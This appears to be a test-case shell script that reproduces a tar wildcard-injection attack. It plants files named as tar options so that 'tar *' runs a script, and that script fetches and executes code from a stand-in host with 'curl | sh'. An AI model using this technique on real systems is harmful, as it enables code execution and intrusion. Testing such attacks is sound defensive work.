#!/bin/sh
. /opt/case/case.sh

cd /srv/data
echo 'curl -s http://203.0.113.10/payload.sh | sh' >x.sh
touch -- '--checkpoint=1' '--checkpoint-action=exec=sh x.sh'
tar -cf /tmp/nightly.tar *
wait_for /tmp/reached
took_place
